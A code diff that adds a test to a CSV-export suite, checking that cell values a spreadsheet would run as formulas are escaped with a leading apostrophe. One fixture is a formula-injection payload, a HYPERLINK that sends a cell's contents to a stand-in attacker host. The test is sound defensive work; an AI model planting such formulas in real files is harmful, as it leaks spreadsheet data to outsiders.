@@ -4,6 +4,7 @@ import csv
 import io
 
 from claims.exports.csv import CLAIM_COLUMNS, LINK_COLUMNS
+from claims.models import Claim, Entity, Link
 from tests.claims.exports.conftest import export, unzip
 
 
@@ -70,3 +71,22 @@ def test_readme_states_the_offset_unit(data):
     readme = unzip(export(data.project, "csv"))["README.md"].decode()
     assert "Offsets are Unicode code points" in readme
     assert "## Licence\n\nunspecified — set by the project manager" in readme
+
+
+def test_text_a_spreadsheet_would_run_as_a_formula_gets_a_leading_apostrophe(data):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Quelle")'
+    Claim.objects.filter(pk=data.claims.treaty.pk).update(note=formula)
+    Link.objects.filter(pk=data.links.across.pk).update(note="+1 und -1")
+    Entity.objects.filter(pk=data.entities.kim.pk).update(name="@SUMME(1;2)")
+    Entity.objects.filter(pk=data.entities.shoigu.pk).update(name="-2+3")
+
+    files = unzip(export(data.project, "csv"))
+
+    by_id = {int(r["claim_id"]): r for r in rows(files, "claims.csv")}
+    assert by_id[data.claims.treaty.pk]["note"] == "'" + formula
+    assert by_id[data.claims.meeting.pk]["participants"] == "'@SUMME(1;2) | -2+3"
+    assert rows(files, "links.csv")[0]["note"] == "'+1 und -1"
+    # Numbers and ordinary text are written as they are.
+    assert by_id[data.claims.meeting.pk]["place"] == "Pjöngjang"
+    assert int(by_id[data.claims.meeting.pk]["start"]) == data.claims.meeting.start
+    assert "leading\n`'`" in files["README.md"].decode()
